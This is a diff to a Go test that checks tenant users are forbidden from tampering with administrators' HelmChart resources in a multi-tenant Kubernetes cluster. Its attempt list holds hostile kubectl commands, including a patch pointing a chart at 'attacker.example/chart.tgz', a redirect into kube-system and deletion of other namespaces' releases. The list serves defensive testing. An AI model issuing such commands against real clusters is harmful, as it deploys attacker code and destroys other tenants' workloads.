@@ -4,6 +4,7 @@ import (
 	"context"
 	"errors"
 	"fmt"
+	"slices"
 	"strings"
 	"testing"
 
@@ -95,25 +96,28 @@ func TestHelmCharts(t *testing.T) {
 	c := cluster.Start(t, harness.NewNetwork(t))
 	u := newTenant(c)
 	apply(c, "tenant", helmObject("HelmChart", "tenant", "admins"))
-	for what, args := range map[string][]string{
-		"change an administrator's HelmChart":        {"patch", "helmchart", "admins", "--type=merge", `--patch={"spec": {"chart": "https://attacker.example/chart.tgz"}}`},
-		"say where a release of a HelmChart is":      {"patch", "helmchart", "admins", "--type=merge", "--subresource=status", `--patch={"status": {"namespace": "kube-system"}}`},
-		"have nobody look after a HelmChart":         {"annotate", "helmchart", "admins", "helmcharts.cattle.io/unmanaged=true"},
-		"take a HelmChart's finalizers":              {"patch", "helmchart", "admins", "--type=merge", `--patch={"metadata": {"finalizers": null}}`},
-		"have a HelmChart deleted with an owner":     {"patch", "helmchart", "admins", "--type=merge", `--patch={"metadata": {"ownerReferences": [{"apiVersion": "v1", "kind": "ConfigMap", "name": "x", "uid": "0"}]}}`},
-		"uninstall a release of another namespace":   {"delete", "helmchart", "admins", "--wait=false"},
-		"uninstall releases of another namespace":    {"delete", "helmcharts", "--all", "--wait=false"},
-		"make a HelmChart in the control plane":      {"create", "--namespace=kube-system", "-f", "-"},
-		"make a HelmChart by a server-side apply":    {"apply", "--server-side", "-f", "-"},
-		"make a HelmChart":                           {"create", "-f", "-"},
-		"make a HelmChart that would not be written": {"create", "--dry-run=server", "-f", "-"},
+	for _, attempt := range []struct {
+		what string
+		args []string
+	}{
+		{"have nobody look after a HelmChart", []string{"annotate", "helmchart", "admins", "helmcharts.cattle.io/unmanaged=true"}},
+		{"change an administrator's HelmChart", []string{"patch", "helmchart", "admins", "--type=merge", `--patch={"spec": {"chart": "https://attacker.example/chart.tgz"}}`}},
+		{"say where the release of a HelmChart is", []string{"patch", "helmchart", "admins", "--type=merge", "--subresource=status", `--patch={"status": {"namespace": "kube-system"}}`}},
+		{"take a HelmChart's finalizers", []string{"patch", "helmchart", "admins", "--type=merge", `--patch={"metadata": {"finalizers": null}}`}},
+		{"have a HelmChart deleted with an owner", []string{"patch", "helmchart", "admins", "--type=merge", `--patch={"metadata": {"ownerReferences": [{"apiVersion": "v1", "kind": "ConfigMap", "name": "x", "uid": "0"}]}}`}},
+		{"make a HelmChart that would not be written", []string{"create", "--dry-run=server", "-f", "-"}},
+		{"make a HelmChart", []string{"create", "-f", "-"}},
+		{"make a HelmChart by a server-side apply", []string{"apply", "--server-side", "--force-conflicts", "-f", "-"}},
+		{"make a HelmChart in the control plane's namespace", []string{"create", "--namespace=kube-system", "-f", "-"}},
+		{"uninstall a release of another namespace", []string{"delete", "helmchart", "admins", "--wait=false"}},
+		{"uninstall releases of other namespaces", []string{"delete", "helmcharts", "--all", "--wait=false"}},
 	} {
 		namespace := "tenant"
-		if args[1] == "--namespace=kube-system" {
+		if slices.Contains(attempt.args, "--namespace=kube-system") {
 			namespace = "kube-system"
 		}
-		output, err := u.kubectl(helmObject("HelmChart", namespace, "evil"), args...)
-		u.wantForbidden(what, output, err)
+		output, err := u.kubectl(helmObject("HelmChart", namespace, "evil"), attempt.args...)
+		u.wantForbidden(attempt.what, output, err)
 	}
 	output, err := u.kubectl(helmObject("HelmChartConfig", "tenant", "admins"), "create", "-f", "-")
 	u.wantForbidden("change an administrator's HelmChart by a HelmChartConfig", output, err)
@@ -121,7 +125,7 @@ func TestHelmCharts(t *testing.T) {
 	// With rights in kube-system that is up to RBAC, as in k3s.
 	c.Kubectl("create", "role", "charts", "--namespace=kube-system", "--verb=create,get,delete", "--resource=helmcharts.helm.cattle.io")
 	c.Kubectl("create", "rolebinding", "charts", "--namespace=kube-system", "--role=charts", "--serviceaccount=tenant:user")
-	if output, err := u.kubectl(helmObject("HelmChart", "kube-system", "allowed"), "create", "-f", "-"); err != nil {
+	if output, err := u.kubectl(helmObject("HelmChart", "kube-system", "allowed"), "create", "--namespace=kube-system", "-f", "-"); err != nil {
 		t.Errorf("a HelmChart in kube-system is refused to whom RBAC allows it: %s", output)
 	}
 	// Who may do everything may do so, and a namespace is deleted with its charts.
